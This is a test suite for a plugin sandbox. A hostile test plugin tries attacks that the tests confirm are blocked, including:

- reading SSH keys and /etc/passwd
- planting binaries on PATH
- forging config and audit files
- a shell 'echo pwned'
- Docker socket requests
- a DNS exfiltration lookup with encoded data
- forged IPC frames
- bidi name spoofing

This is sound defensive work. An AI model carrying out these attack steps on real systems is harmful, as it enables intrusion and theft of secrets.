/**
 * Every plugin is hostile native code (design §8). Each test here is one attack a plugin author
 * tried against the host, made by the misbehave plugin's native code without going through `ctx`,
 * and each checks from outside the plugin that it failed and that the host stayed up.
 */
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createHost, type Host, type HostOptions } from '../../main/core/host';
import { FileLogger } from '../../main/core/log/logger';
import { homeLayout } from '../../main/core/paths';
import { encodeFrame } from '../../main/core/plugins/frames';
import type { PermissionPrompt, PromptAnswer } from '../../main/core/prompts/prompt-types';
import { installSample } from '../helpers/fixtures';
import { scratchHome, tracked } from '../helpers/per-test';
import { startTestServer } from '../helpers/servers';

const MISBEHAVE = 'dev.haloforge.test.misbehave';
const HELLO = 'dev.example.my-plugin';
const NOTES = 'dev.haloforge.sample.notes';

interface Started {
  host: Host;
  home: string;
  asked: PermissionPrompt[];
  events: Array<{ pluginId: string; name: string }>;
}

async function start(opts: { permissions?: Array<{ type: string; value?: unknown }>; answer?: PromptAnswer } & Pick<HostOptions, 'resolver'> = {}): Promise<Started> {
  const home = scratchHome();
  installSample(home, { sample: 'misbehave', manifest: (m) => (m.permissions = opts.permissions ?? []) });
  installSample(home, { sample: 'hello' });
  installSample(home, { sample: 'notes' });
  const asked: PermissionPrompt[] = [];
  const events: Started['events'] = [];
  const host = tracked(
    createHost({
      home,
      logger: new FileLogger(homeLayout(home).logs, ''),
      resolver: opts.resolver,
      asker: async (p) => {
        asked.push(p);
        return opts.answer ?? 'deny';
      },
      onPluginEvent: (pluginId, name) => events.push({ pluginId, name }),
    }),
  );
  host.plugins.discover();
  await host.plugins.approve(MISBEHAVE, 'all');
  await host.plugins.approve(NOTES, 'all');
  await host.start();
  expect(host.plugins.get(MISBEHAVE)?.sandbox.state).toBe('sandboxed');
  return { host, home, asked, events };
}

const attack = (host: Host, command: string, args: Record<string, unknown>) => host.plugins.invoke(MISBEHAVE, command, args);

/**
 * Makes an attack whose effect is judged from outside. The sandbox's /tmp is a private tmpfs, so a
 * write to a path whose folders exist in the sandbox's own view may "succeed" there, where main never
 * looks; what counts is that the real file is untouched.
 */
const tryAttack = (host: Host, command: string, args: Record<string, unknown>) => attack(host, command, args).then(() => undefined, () => undefined);

/** The host is up: the other plugins answer, and the attacker too unless the host stopped it. */
async function stillUp(host: Host, attackerToo = true): Promise<void> {
  await expect(host.plugins.invoke(HELLO, 'ping', { still: 'here' })).resolves.toEqual({ ok: true, echo: { still: 'here' } });
  if (attackerToo) await expect(attack(host, 'echo', { x: 1 })).resolves.toEqual({ echo: { x: 1 } });
}

const digest = (path: string) => createHash('sha256').update(readFileSync(path)).digest('hex');

describe('a hostile plugin', () => {
  it('cannot plant a program on a folder of main PATH, and a program planted there is never what starts the next plugin host', async () => {
    const onPath = scratchHome();
    const oldPath = process.env.PATH;
    process.env.PATH = `${onPath}:${oldPath ?? ''}`;
    try {
      const { host } = await start();
      for (const name of ['unshare', 'bwrap']) {
        await expect(attack(host, 'write_raw', { path: join(onPath, name), text: '#!/bin/sh\nexec "$@"\n', executable: true })).rejects.toThrow(/IO error: .*(No such file|Read-only|Permission denied)/);
        expect(existsSync(join(onPath, name))).toBe(false);
      }
      // Even a fake bwrap that got there some other way is never run: the launcher names /usr/bin/bwrap.
      writeFileSync(join(onPath, 'bwrap'), '#!/bin/sh\nshift $#\nexit 99\n');
      chmodSync(join(onPath, 'bwrap'), 0o755);
      await host.plugins.restart(MISBEHAVE);
      expect(host.plugins.get(MISBEHAVE)?.sandbox.state).toBe('sandboxed');
      const service = await startTestServer();
      try {
        await expect(attack(host, 'connect_direct', { host: '127.0.0.1', port: service.port })).rejects.toThrow(/^Network error: /);
        expect(service.seen).toEqual([]);
      } finally {
        await service.close();
      }
      await stillUp(host);
    } finally {
      process.env.PATH = oldPath;
    }
  });

  it("cannot rewrite grants.json, plugins.json or settings.json, nor turn on its own Restricted permissions", async () => {
    const { host, home } = await start({ permissions: [{ type: 'process_spawn' }] });
    host.grants.setLocalNetwork(HELLO, true, 'panel');
    const before = Object.fromEntries(['grants.json', 'plugins.json'].map((f) => [f, digest(join(home, f))]));
    const forgedGrants = JSON.stringify({ version: 1, grants: [], localNetwork: [MISBEHAVE] });
    await tryAttack(host, 'write_raw', { path: join(home, 'grants.json'), text: forgedGrants });
    await tryAttack(host, 'write_raw', { path: join(home, 'plugins.json'), text: '{}' });
    await tryAttack(host, 'write_raw', { path: join(home, 'settings.json'), text: '{"allowUnconfined":true}' });
    expect(Object.fromEntries(['grants.json', 'plugins.json'].map((f) => [f, digest(join(home, f))]))).toEqual(before);
    expect(existsSync(join(home, 'settings.json'))).toBe(false);
    await host.plugins.restart(MISBEHAVE);
    expect(host.grants.localNetwork(MISBEHAVE)).toBe(false);
    expect(host.plugins.get(MISBEHAVE)?.permissions).toMatchObject([{ type: 'process_spawn', status: 'off' }]);
    // What main reads is the real file: a fresh host over the same folder sees no forged state.
    const fresh = tracked(createHost({ home, logger: new FileLogger(homeLayout(home).logs, '') }));
    expect(fresh.grants.localNetwork(MISBEHAVE)).toBe(false);
    expect(fresh.gate.startProblem()).toBeUndefined();
    await stillUp(host);
  });

  it('cannot delete or forge audit lines, of its own or in another plugin name', async () => {
    const { host, home } = await start();
    await expect(host.plugins.invokeAs(MISBEHAVE, 'plugin_dev_haloforge_sample_notes_list_notes', {})).rejects.toThrow(/Permission denied/);
    const audit = join(home, 'audit.jsonl');
    const lines = readFileSync(audit, 'utf8');
    const forged = `${JSON.stringify({ time: new Date().toISOString(), pluginId: NOTES, method: 'GET', url: 'https://evil.example/', decision: 'allow', rule: 'grant', reason: 'the user allowed evil.example always' })}\n`;
    await tryAttack(host, 'write_raw', { path: audit, text: forged, append: true });
    await tryAttack(host, 'write_raw', { path: audit, text: '' });
    await tryAttack(host, 'remove_raw', { path: audit });
    expect(readFileSync(audit, 'utf8')).toBe(lines);
    expect(host.audit.query()).toMatchObject([{ pluginId: MISBEHAVE, method: 'INVOKE', decision: 'deny' }]);
    // Later decisions still reach the real file.
    await expect(host.plugins.invokeAs(MISBEHAVE, 'plugin_dev_haloforge_sample_notes_list_notes', {})).rejects.toThrow(/Permission denied/);
    expect(host.audit.query()).toHaveLength(2);
    await stillUp(host);
  });

  it("cannot overwrite another plugin's library nor read another plugin's data, and so cannot run as it", async () => {
    const { host, home } = await start();
    await host.plugins.invoke(NOTES, 'add_note', { text: 'private note' });
    const helloLibrary = join(home, 'plugins', HELLO, 'native', 'libhf_my_plugin.so');
    const helloDigest = digest(helloLibrary);
    const ownLibrary = join(home, 'plugins', MISBEHAVE, 'native', 'libhf_misbehave.so');
    await tryAttack(host, 'write_raw', { path: helloLibrary, text: 'not a library' });
    await expect(attack(host, 'write_raw', { path: ownLibrary, text: 'a new me' })).rejects.toThrow(/IO error: .*Read-only/);
    await expect(attack(host, 'read_raw', { path: join(home, 'plugins', NOTES, 'data', 'haloforge-plugin.sqlite') })).rejects.toThrow(/IO error: .*No such file/);
    expect(digest(helloLibrary)).toBe(helloDigest);
    await host.plugins.restart(HELLO);
    await stillUp(host);
  });

  it("cannot read the user's secrets outside its view: a bait SSH key, the home folder", async () => {
    const { host } = await start();
    const bait = join(scratchHome(), '.ssh');
    mkdirSync(bait);
    writeFileSync(join(bait, 'id_ed25519'), '-----BEGIN OPENSSH PRIVATE KEY----- bait');
    await expect(attack(host, 'read_raw', { path: join(bait, 'id_ed25519') })).rejects.toThrow(/IO error: .*No such file/);
    await expect(attack(host, 'read_raw', { path: join(homedir(), '.bashrc') })).rejects.toThrow(/IO error: .*No such file/);
    await expect(attack(host, 'read_raw', { path: '/etc/passwd' })).rejects.toThrow(/IO error: .*No such file/);
    await stillUp(host);
  });

  it('cannot start a program itself: without a process permission nothing runs, and a whitelisted shell runs only itself', async () => {
    const none = await start({ permissions: [] });
    const marker = join(none.home, 'plugins', MISBEHAVE, 'data', 'ran');
    await expect(attack(none.host, 'exec_raw', { program: '/bin/sh', args: ['-c', `echo pwned > ${marker}`] })).rejects.toThrow(/IO error: .*(not permitted|PermissionDenied)/);
    expect(existsSync(marker)).toBe(false);
    expect(none.host.audit.query().filter((e) => e.method === 'SPAWN')).toEqual([]);
    await stillUp(none.host);

    // Whitelisted, /bin/sh is its shim: the real shell runs in a sandbox of its own, audited,
    // where it can execute nothing but itself.
    const sh = await start({ permissions: [{ type: 'process_spawn_whitelist', value: ['sh'] }] });
    const touched = join(sh.home, 'plugins', MISBEHAVE, 'data', 'touched');
    await expect(attack(sh.host, 'exec_raw', { program: '/bin/sh', args: ['-c', `touch ${touched}`] })).resolves.toMatchObject({ status: 126 });
    expect(existsSync(touched)).toBe(false);
    expect(sh.host.audit.query().filter((e) => e.method === 'SPAWN' && e.event === 'decision').map((e) => e.reason)).toEqual([expect.stringContaining(`sh -c touch ${touched} in `) as string]);
    await stillUp(sh.host);
  });

  it("holds no descriptor of main's but its checked channel, and a program it runs holds none at all", async () => {
    const { host } = await start({ permissions: [{ type: 'network_http_domain', value: 'api.hf.test' }, { type: 'process_spawn_whitelist', value: ['sh'] }] });
    // The egress listener came over Node's IPC channel (fd 5) before the plugin loaded; main closed that channel then.
    const mine = ((await attack(host, 'list_raw', { path: '/proc/self/fd' })) as { names: string[] }).names;
    expect(mine).toContain('3');
    expect(mine).not.toContain('5');
    const environment = ((await attack(host, 'read_raw', { path: '/proc/self/environ' })) as { text: string }).text.split('\0');
    expect(environment).toContain('NODE_CHANNEL_FD=5');
    // `[ -e ]` is the shell's builtin, so it opens nothing of its own that could take one of these numbers.
    const probe = 'for n in 3 4 5 6 7; do [ -e /proc/self/fd/$n ] && echo open $n; done; echo checked';
    await expect(attack(host, 'spawn', { exe: '/bin/sh', args: ['-c', probe] })).resolves.toMatchObject({ code: 0, stdout: 'checked\n' });
    await stillUp(host);
  });

  it('never gets a handover channel when it has no network permission: it has no egress listener to hand over', async () => {
    const { host } = await start();
    // Node removes NODE_CHANNEL_FD from process.env; the environment the process started with keeps it.
    const environment = ((await attack(host, 'read_raw', { path: '/proc/self/environ' })) as { text: string }).text.split('\0');
    expect(environment.filter((v) => v.startsWith('NODE_CHANNEL'))).toEqual([]);
    await stillUp(host);
  });

  it('cannot carry HTTP out through a filesystem Unix socket', async () => {
    const { host } = await start();
    const socketPath = join(scratchHome(), 'agent.sock');
    const connections: string[] = [];
    const server: Server = createServer((c) => c.on('data', (d) => connections.push(d.toString())));
    await new Promise<void>((ok) => server.listen(socketPath, ok));
    try {
      await expect(attack(host, 'connect_unix', { path: socketPath, send: 'GET http://example.com/ HTTP/1.1\r\n\r\n' })).rejects.toThrow(/IO error: .*No such file/);
      await expect(attack(host, 'connect_unix', { path: '/run/docker.sock', send: 'GET /containers/json HTTP/1.1\r\n\r\n' })).rejects.toThrow(/IO error/);
      expect(connections).toEqual([]);
    } finally {
      await new Promise((done) => server.close(done));
    }
    await stillUp(host);
  });

  it("cannot stop main or kill another plugin's host with a signal", async () => {
    const { host } = await start();
    const helloPid = host.plugins.pidOf(HELLO) as number;
    await expect(attack(host, 'signal', { pid: process.pid, signal: 'SIGSTOP' })).rejects.toThrow(/kill\(\d+\) failed: No such process/);
    await expect(attack(host, 'signal', { pid: helloPid, signal: 'SIGKILL' })).rejects.toThrow(/kill\(\d+\) failed: No such process/);
    expect(host.plugins.pidOf(HELLO)).toBe(helloPid);
    await stillUp(host);
  });

  it('cannot make a DNS lookup, carrying data or not, before the user allowed the request', async () => {
    const looked: string[] = [];
    const { host, asked } = await start({
      permissions: [{ type: 'network_http' }],
      resolver: async (name) => {
        looked.push(name);
        return ['127.0.0.1'];
      },
    });
    await expect(attack(host, 'fetch_json', { url: 'https://c2VjcmV0LWRhdGE.leak.hf.test/' })).rejects.toThrow(/Permission denied: .*the user denied it/);
    expect(asked).toMatchObject([{ kind: 'network', host: 'c2vjcmv0lwrhdge.leak.hf.test' }]);
    expect(looked).toEqual([]);
    await stillUp(host);
  });

  describe('writing raw frames to its channel to main', () => {
    /** A message in the frame format of the channel, as the plugin writes it to fd 3 itself. */
    const frameOf = (batch: unknown[]) => {
      const control = Buffer.from(JSON.stringify(batch));
      const header = Buffer.alloc(4);
      header.writeUInt32LE(control.length);
      return Buffer.concat(encodeFrame({ type: 'outbox', batch: Buffer.concat([header, control]) })).toString('hex');
    };

    it.each([
      ['emit an event without events_emit', [{ type: 'event', target: MISBEHAVE, name: 'forged', payload: {} }], /'event' message, but emitting events needs events_emit/],
      // Files are the sandbox's own view: main reads and writes none for a plugin, whatever it asks.
      ['have main read a file for it', [{ type: 'fs', id: 7, op: 'read_file', path: '/etc/hostname' }], /a message of unknown type "fs"/],
      ['ask main to run a program over its channel (programs go through the shim)', [{ type: 'process', id: 8, program: 'sh', args: ['-c', 'id'], cwd: null }], /a message of unknown type "process"/],
      ['make an HTTP request without a network permission', [{ type: 'http', id: 9, method: 'GET', url: 'https://example.com/', headers: {}, body: null }], /'http' message, but HTTP requests need/],
      ['speak of an unknown kind', [{ type: 'become-admin' }], /a message of unknown type "become-admin"/],
      // Results travel beside the control messages (see outbox-format): one among them is forged.
      ['answer a command with a result main did not ask for', [{ type: 'result', id: 1, ok: true, value: 'forged' }], /a message of unknown type "result"/],
    ])('cannot %s: the message is refused, audited and its plugin host stopped', async (_what, batch, reason) => {
      const { host, asked, events } = await start();
      await expect(attack(host, 'forge_frames', { hex: frameOf(batch) })).rejects.toThrow(/stopped/);
      expect(host.plugins.get(MISBEHAVE)).toMatchObject({ state: 'error', error: expect.stringMatching(reason) as string });
      expect(asked).toEqual([]);
      expect(events).toEqual([]);
      expect(host.audit.query({ pluginId: MISBEHAVE })).toMatchObject([{ method: 'IPC', decision: 'deny', rule: 'plugin-host:message', reason: expect.stringMatching(reason) as string }]);
      await stillUp(host, false);
      await host.plugins.restart(MISBEHAVE);
      await stillUp(host);
    });
  });

  it('cannot make main misread a batch whose lengths lie', async () => {
    const { host } = await start();
    const lying = Buffer.alloc(8);
    lying.writeUInt32LE(1_000_000);
    await expect(attack(host, 'forge_frames', { hex: Buffer.concat(encodeFrame({ type: 'outbox', batch: lying })).toString('hex') })).rejects.toThrow(/stopped/);
    expect(host.plugins.get(MISBEHAVE)?.error).toMatch(/a batch whose control part runs past its end; it was stopped$/);
    expect(host.audit.query({ pluginId: MISBEHAVE })).toMatchObject([{ method: 'IPC', decision: 'deny', rule: 'plugin-host:message' }]);
    await stillUp(host, false);
  });

  it('cannot slip main a request body that no request of its batch makes', async () => {
    const { host } = await start();
    const entry = Buffer.alloc(9);
    entry.writeUInt32LE(4);
    entry.writeUInt8(2, 4); // the body of host call 4
    entry.writeUInt32LE(2, 5);
    const control = Buffer.from('[]');
    const header = Buffer.alloc(4);
    header.writeUInt32LE(control.length);
    const batch = Buffer.concat([header, control, entry, Buffer.from('{}')]);
    await expect(attack(host, 'forge_frames', { hex: Buffer.concat(encodeFrame({ type: 'outbox', batch })).toString('hex') })).rejects.toThrow(/stopped/);
    expect(host.plugins.get(MISBEHAVE)?.error).toMatch(/a body for host call 4, which no request of its batch makes; it was stopped$/);
    await stillUp(host, false);
  });

  it('cannot open a tunnel by asking main over its channel: main takes proxy connections itself, not frames', async () => {
    const { host, asked } = await start();
    const frame = encodeFrame({ type: 'tunnel-open', id: 1, head: Buffer.from('CONNECT example.com:443 HTTP/1.1\r\n\r\n') });
    await expect(attack(host, 'forge_frames', { hex: Buffer.concat(frame).toString('hex') })).rejects.toThrow(/stopped/);
    expect(host.plugins.get(MISBEHAVE)?.error).toMatch(/sent a 'tunnel-open' message out of turn; it was stopped$/);
    expect(asked).toEqual([]);
    expect(host.audit.query({ pluginId: MISBEHAVE })).toMatchObject([{ method: 'IPC', decision: 'deny', rule: 'plugin-host:message' }]);
    await stillUp(host, false);
  });

  it('cannot disguise its name or a file name with bidirectional or invisible characters in panels and prompts', async () => {
    const home = scratchHome();
    installSample(home, { sample: 'misbehave', manifest: (m) => Object.assign(m, { name: 'Safe\u202Eexe.txt', permissions: [{ type: 'filesystem_read' }] }) });
    const asked: PermissionPrompt[] = [];
    const host = tracked(createHost({ home, logger: new FileLogger(homeLayout(home).logs, ''), asker: async (p) => (asked.push(p), 'deny') }));
    host.plugins.discover();
    await host.plugins.approve(MISBEHAVE, 'all');
    await host.start();
    expect(host.plugins.get(MISBEHAVE)?.name).toBe('Safe<U+202E>exe.txt');
    const folder = scratchHome();
    const disguised = join(folder, 'invoice\u202Efdp.exe');
    writeFileSync(disguised, 'x');
    await expect(attack(host, 'read_file', { path: disguised })).rejects.toThrow(/Permission denied/);
    expect(asked).toMatchObject([{ kind: 'file', pluginName: 'Safe<U+202E>exe.txt', path: `${folder}/invoice<U+202E>fdp.exe` }]);
    // The grant and the audit keep the real path; only what is shown is neutralised.
    expect(host.audit.query()).toMatchObject([{ url: `file://${disguised}`, decision: 'deny' }]);
  });

  it('keeps its files where they were: the data folder stays its own and writable', async () => {
    const { host, home } = await start();
    const mine = join(home, 'plugins', MISBEHAVE, 'data', 'mine.txt');
    await expect(attack(host, 'write_raw', { path: mine, text: 'kept' })).resolves.toEqual({ written: mine });
    expect(readFileSync(mine, 'utf8')).toBe('kept');
    expect(statSync(mine).isFile()).toBe(true);
  });
});
